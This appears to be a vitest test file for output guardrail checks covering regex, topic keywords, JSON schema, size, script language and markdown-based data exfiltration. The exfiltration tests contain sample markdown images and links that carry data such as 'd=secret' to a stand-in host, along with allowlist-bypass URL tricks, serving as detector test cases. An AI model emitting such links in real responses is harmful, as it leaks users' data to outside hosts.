import { describe, expect, it } from 'vitest';
import { type CheckConfig, checks } from '../index.js';
import { rulesIn } from './rules-in.fixture.js';

const problem = (config: Omit<CheckConfig, 'action'> & { action?: CheckConfig['action'] }): string | null =>
  checks.get(config.type as string)?.problemWith({ action: 'block', ...config } as CheckConfig) ?? null;

describe('regex', () => {
  const config = { type: 'regex', action: 'flag', patterns: ['(?i)project\\s+x\\d+', '^SECRET'] } as const;
  it('finds what any of its patterns matches', () => {
    expect(rulesIn('SECRET: Project  X12', config)).toEqual(['pattern-1', 'pattern-0']);
  });
  it.each([['(a'], ['(?=a)'], ['(a)\\1'], ['a*'], ['']])('refuses the pattern %s', (pattern) => {
    expect(problem({ type: 'regex', patterns: [pattern] })).toMatch(/^patterns\.0 /);
  });
  it('takes a pattern that would hang a backtracking engine in its stride', () => {
    expect(rulesIn(`${'a'.repeat(20_000)}!`, { type: 'regex', action: 'flag', patterns: ['^(a+)+$'] })).toEqual([]);
  });
});

describe('topics', () => {
  const config = {
    type: 'topics',
    action: 'flag',
    topics: { money: ['Aktie', 'stock market'], law: ['straße'] },
  } as const;
  it('finds whole words in any case, phrases whatever stands between their words', () => {
    expect(rulesIn('Die AKTIE fällt; STOCK-market and Straße', config)).toEqual(['money', 'money', 'law']);
    expect(rulesIn('Aktien and stockmarket', config)).toEqual([]);
  });
  it('wants as many different keywords as configured', () => {
    expect(rulesIn('Aktie Aktie', { ...config, minMatches: 2 })).toEqual([]);
    expect(rulesIn('Aktie at the stock market', { ...config, minMatches: 2 })).toEqual(['money', 'money']);
  });
});

describe('json-schema', () => {
  const schema = { type: 'object', required: ['answer'], properties: { answer: { type: 'integer' } } };
  const config = { type: 'json-schema', action: 'block', schema } as const;
  const rules = (text: string, options = {}) => rulesInOutput(text, { ...config, ...options });
  it.each([
    ['{"answer": 42}', []],
    ['{"answer": "42"}', ['not-valid']],
    ['The answer is 42', ['not-json']],
    ['```json\n{"answer": 42}\n```', ['not-json']],
  ])('judges %s', (text, expected) => expect(rules(text)).toEqual(expected));
  it('reads a code block where it may', () => {
    expect(rules('```json\n{"answer": 42}\n```', { fenced: true })).toEqual([]);
  });
  it('refuses what is no schema', () => {
    expect(problem({ type: 'json-schema', schema: { type: 'nothing' } })).toMatch(/^schema is not/);
  });
});

describe('exfiltration', () => {
  const config = {
    type: 'exfiltration',
    action: 'flag',
    allowedHosts: ['docs.example.com', '*.corp.example'],
  } as const;
  it.each([
    ['![x](https://evil.example/p.png?d=secret)', ['image']],
    ['[click](https://evil.example/?d=1)', ['link']],
    ['<img src="//evil.example/x.png">', ['image']],
    ['[1]: https://evil.example/x', ['link']],
    ['see https://evil.example/a, ok', ['url']],
    ['![x](https://docs.example.com/p.png) https://a.corp.example/x', []],
    ['![x](https://docs.example.com@evil.example/p.png)', ['image']],
    ['![x](https://docs.example.com.evil.example/p.png)', ['image']],
    ['half // a comment, and 1//2', []],
  ])('%s', (text, expected) => expect(rulesInOutput(text, config)).toEqual(expected));
});

describe('size and language', () => {
  it('finds the first character beyond the limit', () => {
    expect(rulesIn('12345', { type: 'size', action: 'block', maxChars: 4 })).toEqual(['max-chars']);
    expect(rulesIn('1234', { type: 'size', action: 'block', maxChars: 4 })).toEqual([]);
  });
  it('finds sentences in other scripts, not single words', () => {
    const config = { type: 'language', action: 'block', scripts: ['latin'] } as const;
    expect(rulesIn('Привет, как у тебя дела сегодня?', config)).toEqual(['cyrillic']);
    expect(rulesIn('She said Привет and left', config)).toEqual([]);
  });
  it.each(['size', 'language', 'json-schema'])('%s cannot redact', (type) => {
    const options = { maxChars: 5, scripts: ['latin'] };
    expect(problem({ type, action: 'redact', ...options })).toMatch(/not redact/);
  });
});

const rulesInOutput = (text: string, config: CheckConfig): readonly string[] => rulesIn(text, config, 'assistant');
